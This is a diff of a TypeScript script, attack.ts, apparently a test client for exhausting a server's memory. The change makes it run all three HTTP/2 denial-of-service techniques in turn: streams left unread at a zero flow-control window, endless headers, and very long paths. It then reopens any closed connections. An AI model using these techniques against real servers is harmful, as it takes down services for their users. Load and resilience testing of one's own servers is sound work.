@@ -7,10 +7,10 @@ import { setTimeout as delay } from 'node:timers/promises';
 /**
  * A client that makes a server use as much memory as possible. It runs in a separate container, so that the visitors have
  * other addresses. Prints `ready` when all connections are open. Opens those that the server closes again until it is stopped.
- *   node attack.ts HOST ATTACK...
+ *   node attack.ts HOST
  */
 
-const [host = '', ...names] = process.argv.slice(2);
+const [host = ''] = process.argv.slice(2);
 
 /** Opens streams whose responses it never reads, because the flow-control window remains 0. */
 async function unreadStreams(headers: http2.OutgoingHttpHeaders, connections = 6, streams = 128) {
@@ -60,12 +60,9 @@ async function longPaths(count = 2500, maxLength = 15_000) {
   await Promise.all(Array.from({ length: count }, (_, index) => requestStatus(index + 1, acceptedLength)));
 }
 
-const attacks = {
-  unreadStreams: () => unreadStreams({ ':path': '/images/member.png', 'accept-encoding': 'gzip' }),
-  endlessHeaders,
-  longPaths,
-};
-for (const [name, attack] of Object.entries(attacks)) if (names.includes(name)) await attack();
+await unreadStreams({ ':path': '/images/member.png', 'accept-encoding': 'gzip' });
+await endlessHeaders();
+await longPaths();
 await delay(1000);
 console.log('ready');
 setInterval(() => undefined, 1000);
